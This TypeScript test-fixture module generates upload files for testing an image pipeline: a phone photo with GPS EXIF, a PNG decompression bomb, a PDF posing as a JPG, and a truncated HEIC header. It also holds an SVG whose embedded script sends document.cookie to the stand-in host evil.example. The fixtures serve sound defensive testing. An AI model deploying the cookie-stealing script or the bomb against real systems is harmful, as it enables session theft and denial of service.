import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

/**
 * Files a phone or an attacker might send, made in the test so nothing binary is committed.
 * Phone photos are noisy (a flat colour compresses to nothing and hides encoder costs).
 */
export async function phonePhoto(options: { width?: number; height?: number; seed?: number; orientation?: number } = {}): Promise<Buffer> {
  const { width = 2000, height = 1500, seed = 1, orientation = 1 } = options;
  const pixels = Buffer.alloc(width * height * 3);
  let state = seed * 2654435761;
  for (let i = 0; i < pixels.length; i++) {
    state = (state * 1103515245 + 12345) >>> 0;
    pixels[i] = (state >>> 24) & 0xff;
  }
  return sharp(pixels, { raw: { width, height, channels: 3 } })
    .blur(2)
    .jpeg({ quality: 88 })
    .withExif({
      IFD0: { Make: 'TestPhone', Model: 'T1' },
      // A location in Pasuruan: what must never reach a shopper.
      IFD3: { GPSLatitudeRef: 'S', GPSLatitude: '7/1 38/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '112/1 54/1 0/1' },
    })
    .withMetadata({ orientation })
    .toBuffer();
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body) >>> 0);
  return Buffer.concat([length, body, crc]);
}

/**
 * A decompression bomb: a PNG whose header says 20,000 × 20,000 pixels (1.2 GB decoded) in a few
 * hundred bytes. Its data stream is short; a decoder that trusted the header would allocate first.
 */
export function pngBomb(width = 20_000, height = 20_000): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 8; // bit depth
  header[9] = 2; // truecolour
  const rows = Buffer.alloc((width * 3 + 1) * 4); // four rows of zeros, the rest missing
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(rows)),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

export const pdfNamedJpg = Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');

export const svgWithScript = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="800" height="600"><script>fetch("https://evil.example/"+document.cookie)</script><rect width="800" height="600" fill="red"/></svg>',
);

/** The start of an iPhone HEIC file (an ISO-BMFF "ftyp" box naming HEIC brands), cut short. */
export const heicStart = Buffer.concat([
  Buffer.from([0, 0, 0, 0x18]),
  Buffer.from('ftypheic', 'latin1'),
  Buffer.from([0, 0, 0, 0]),
  Buffer.from('mif1heic', 'latin1'),
  Buffer.alloc(64),
]);
